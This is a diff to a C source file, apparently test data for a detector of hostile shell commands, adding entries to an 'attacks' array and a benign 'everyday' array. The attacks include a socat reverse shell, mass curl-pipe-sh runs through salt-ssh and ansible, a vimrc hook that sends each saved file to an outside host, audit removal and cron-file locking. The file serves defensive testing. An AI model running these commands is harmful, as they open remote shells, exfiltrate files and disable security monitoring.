@@ -157,6 +157,10 @@ static const char *const attacks[] = {
 	"sudo dnf erase -y audit",
 	"echo '0.0.0.0 ts01-b.cloudsink.net' >> /etc/hosts",
 	"echo 'source /tmp/.t.sh' >> ~/.tmux.conf",
+	"tmux new-session -d 'socat exec:bash,pty,stderr tcp:10.0.0.9:4444'",
+	"salt-ssh '*' cmd.run 'curl -s http://198.51.100.4/a | sh'",
+	"echo 'autocmd BufWritePost * silent !curl -s -d @% http://198.51.100.4/' >> ~/.vimrc",
+	"chattr +i /etc/cron.d/sysupdate",
 	"ansible-playbook -i 10.0.0.0/24, -e 'cmd=\"curl http://198.51.100.4/a|sh\"' run.yml",
 	NULL,
 };
@@ -276,6 +280,11 @@ static const char *const everyday[] = {
 	"nuclei -version",
 	"echo 'set -g history-limit 10000' >> ~/.tmux.conf",
 	"ansible-playbook -i inventory site.yml --check",
+	"echo 'autocmd BufWritePost *.py silent !black %' >> ~/.vimrc",
+	"echo \"run-shell '~/.tmux/plugins/tpm/tpm'\" >> ~/.tmux.conf",
+	"rm -rf /opt/sophos-old-installer.tar.gz",
+	"chattr +i ./important.txt",
+	"find /var/log/nginx -type f -name '*.gz' -mtime +90 -delete",
 	NULL,
 };
 
